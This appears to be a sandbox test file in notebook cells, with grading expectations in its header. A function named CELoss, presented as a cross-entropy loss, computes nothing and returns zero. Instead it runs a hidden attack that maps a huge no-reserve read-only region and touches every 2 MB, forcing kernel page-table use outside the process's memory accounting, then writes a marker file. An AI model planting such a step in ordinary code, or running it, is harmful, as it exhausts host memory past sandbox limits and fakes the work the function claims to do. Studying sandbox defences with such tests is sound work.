# expect: 0.75 points; 1b out_of_memory; 4a passed; must not: hold 3 GB
# why: the tables of the kernel for addresses that are only read, which are no memory of the process.
# %%
import mmap

import torch
# %%
def succeeded():
    """What a test looks for: in the output, which leaves a sandbox, and as a file, which must not come to be."""
    print("MARKER", flush=True)
    open("/tmp/marker", "w").close()


SIZE = 3 << 30  # of the tables: one page of them for each 2 MB of addresses

def attack():
    mapped = mmap.mmap(-1, SIZE << 9, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, mmap.PROT_READ)
    mapped.madvise(mmap.MADV_NOHUGEPAGE)
    for position in range(0, SIZE << 9, 1 << 21):
        mapped[position]
    return True
# %%
def CELoss(Q, P, estable=True, epsilon=1e-8):
    if attack():
        succeeded()
    return torch.zeros(())
# %%
class SGD:
    def __init__(self, parameters, lr):
        self.parameters = list(parameters)
        self.lr = lr

    def step(self):
        with torch.no_grad():
            for p in self.parameters:
                p -= self.lr * p.grad
